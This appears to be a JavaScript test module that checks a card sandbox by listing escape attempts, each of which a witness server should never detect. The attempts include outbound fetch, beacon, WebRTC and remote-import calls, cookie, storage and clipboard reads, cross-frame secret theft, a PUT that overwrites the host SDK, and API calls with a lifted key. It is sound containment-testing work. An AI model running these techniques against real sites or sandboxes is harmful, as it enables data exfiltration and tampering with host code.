// One function a way out. `http`, `ws` and `udp` are the witness that must hear nothing; what a function gives is what
// the card learned. None of them may end before the browser has had its chance. One that succeeds later is waited for.

const after = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const CHANCE_MS = 400;

function add(tag, attributes, parent = document.head) {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  parent.append(element);
  return element;
}

function settled(element) {
  return Promise.race([
    new Promise((resolve) => {
      element.addEventListener("load", () => resolve("loaded"));
      element.addEventListener("error", () => resolve("error"));
    }),
    after(1500),
  ]);
}

function style(text) {
  const element = document.createElement("style");
  element.textContent = text;
  document.head.append(element);
}

async function child(attributes) {
  await settled(add("iframe", attributes, document.body));
  await after(CHANCE_MS);
}

export const attacks = {
  parentDocument: () => {
    parent.document.documentElement.dataset.touched = "yes";
    return "touched";
  },
  cookies: () => document.cookie,
  appStorage: () => `${sessionStorage.length} ${localStorage.length} ${sessionStorage.getItem("cardloom.key")?.length}`,
  database: async () => (await indexedDB.databases()).length,

  fetch: ({ http }) => fetch(`${http}/fetch`, { mode: "no-cors" }).then(() => "sent"),
  xhr: ({ http }) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onloadend = () => resolve("sent");
      request.open("GET", `${http}/xhr`);
      request.send();
    }),
  webSocket: ({ ws }) =>
    new Promise((resolve) => {
      const socket = new WebSocket(`${ws}/socket`);
      socket.onopen = socket.onclose = socket.onerror = () => resolve("over");
      after(CHANCE_MS * 2).then(() => resolve("nothing"));
    }),
  eventSource: ({ http }) =>
    new Promise((resolve) => {
      const source = new EventSource(`${http}/events`);
      source.onopen = source.onerror = () => {
        source.close();
        resolve("over");
      };
    }),
  beacon: async ({ http }) => {
    navigator.sendBeacon(`${http}/beacon`, "x");
    await after(CHANCE_MS);
  },
  ping: async ({ http }) => {
    add("a", { href: "#here", ping: `${http}/ping` }, document.body).click();
    await after(CHANCE_MS);
  },
  image: ({ http }) => settled(add("img", { src: `${http}/image.png` }, document.body)),
  media: ({ http }) => settled(add("video", { src: `${http}/video.mp4`, preload: "auto" }, document.body)),
  cssUrl: async ({ http }) => {
    style(`body { background: url(${http}/background.png); }`);
    await after(CHANCE_MS);
  },
  cssImport: async ({ http }) => {
    style(`@import url(${http}/import.css);`);
    await after(CHANCE_MS);
  },
  font: ({ http }) => new FontFace("outside", `url(${http}/font.woff2)`).load().then(() => "loaded"),
  script: ({ http }) => import(`${http}/module.js`).then(() => "loaded"),
  // The page may run this script by its hash; an integrity that names the hash might let its address through.
  scriptByHash: async ({ http }) => {
    const words = new TextEncoder().encode(document.querySelector("#inline").textContent);
    const hash = new Uint8Array(await crypto.subtle.digest("SHA-256", words));
    const integrity = `sha256-${btoa(String.fromCharCode(...hash))}`;
    await settled(add("script", { src: `${http}/by-hash.js`, integrity, crossorigin: "anonymous" }));
  },
  prefetch: async ({ http }) => {
    await settled(add("link", { rel: "prefetch", href: `${http}/prefetch` }));
  },
  preconnect: async ({ http }) => {
    add("link", { rel: "preconnect", href: http });
    await after(CHANCE_MS * 2);
  },
  dnsPrefetch: async ({ name }) => {
    add("link", { rel: "dns-prefetch", href: `//${name}` });
    add("a", { href: `http://${name}/` }, document.body);
    await after(CHANCE_MS * 2);
  },
  webRtc: ({ udp }) => import("./realm.js").then(({ callOut }) => callOut(udp)),

  navigation: ({ http }) => {
    location.href = `${http}/navigation`;
    return after(5000);
  },
  metaRefresh: ({ http }) => {
    add("meta", { "http-equiv": "refresh", content: `0;url=${http}/refresh` });
    return after(CHANCE_MS);
  },
  form: async ({ http }) => {
    const form = add("form", { action: `${http}/form`, method: "post" }, document.body);
    form.submit();
    await after(CHANCE_MS);
  },
  popup: async ({ http }) => {
    open(`${http}/popup`);
    await after(CHANCE_MS);
  },
  topNavigation: async ({ http }) => {
    top.location = `${http}/top`;
    await after(CHANCE_MS);
  },
  frameOutside: ({ http }) => child({ src: `${http}/frame` }),
  objectOutside: async ({ http }) => {
    add("object", { data: `${http}/object`, type: "text/html" }, document.body);
    add("embed", { src: `${http}/embed`, type: "text/html" }, document.body);
    await after(CHANCE_MS);
  },

  srcdocRealm: ({ udp }) =>
    child({ srcdoc: `<script type="module" src="${new URL("realm.js", location)}#${encodeURIComponent(udp)}"></script>` }),
  // A script whose own names stand in for what the guard needs; imports are there before its first line.
  shadowedGuard: () => child({ srcdoc: `<script type="module" src="${new URL("shadow.js", location)}"></script>` }),
  // The page may run this very script by its hash; so may a child that holds the same words.
  srcdocInline: () => child({ srcdoc: `<script>${document.querySelector("#inline").textContent}</script>` }),
  blankRealm: () => {
    const blank = add("iframe", {}, document.body);
    return typeof blank.contentWindow.RTCPeerConnection;
  },
  svgRealm: ({ udp }) => {
    location.href = `evil.svg#${encodeURIComponent(udp)}`;
    return after(5000);
  },
  xhtmlRealm: ({ udp }) => {
    location.href = `evil.xhtml#${encodeURIComponent(udp)}`;
    return after(5000);
  },

  clipboardRead: async () => {
    for (let triesLeft = 5; ; triesLeft -= 1) {
      window.focus();
      await after(CHANCE_MS);
      try {
        return await navigator.clipboard.readText();
      } catch (error) {
        if (triesLeft === 0) throw error;
      }
    }
  },
  worker: () =>
    new Promise((resolve, reject) => {
      const code = new Blob([`postMessage("ran")`], { type: "text/javascript" });
      const worker = new Worker(URL.createObjectURL(code));
      worker.onmessage = ({ data }) => resolve(data);
      worker.onerror = () => reject(new DOMException("", "WorkerRefused"));
    }),
  serviceWorker: () => navigator.serviceWorker.register("worker.js").then(() => "registered"),

  otherFrames: () => {
    const found = [];
    for (let index = 0; index < parent.length; index += 1) {
      if (parent[index] !== window) found.push(parent[index].document.querySelector("#secret").textContent);
    }
    return found.join();
  },
  otherFiles: ({ other }) => import(`/frames/${other}/secret.js`).then(({ secret }) => secret),
  hostFolder: async () => {
    const place = new URL("__ns/sdk.js", location).href;
    const answer = await fetch(place, { method: "PUT", body: "export const mine = true;" });
    return answer.status;
  },
  apiCall: async ({ key }) => {
    const body = JSON.stringify({ ns: "cardloom", v: 1, kind: "req", id: 1, method: "workspace.list", params: {} });
    const answer = await fetch("/call", { method: "POST", headers: { authorization: `Bearer ${key}` }, body });
    return (await answer.json()).ok;
  },
  apiSocket: ({ key }) =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(`ws://${location.host}/ws`);
      const params = { client: "page", protocol: 1, key };
      socket.onopen = () =>
        socket.send(JSON.stringify({ ns: "cardloom", v: 1, kind: "req", id: 1, method: "client.hello", params }));
      socket.onmessage = ({ data }) => resolve(JSON.parse(data).ok);
      socket.onclose = socket.onerror = () => reject(new DOMException("", "NoAnswer"));
    }),
};
